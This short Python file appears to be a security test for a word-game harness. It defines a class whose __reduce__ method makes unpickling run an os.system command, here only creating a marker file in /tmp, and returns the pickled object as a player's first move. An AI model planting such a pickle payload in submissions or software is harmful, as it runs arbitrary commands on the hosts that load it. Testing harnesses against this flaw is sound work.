"""Returns something that runs a command when it is unpickled."""

import os
import pickle


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/wordpl-attack",)


class Attack:
    def first_move(self):
        return pickle.dumps(Command()), Command()

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
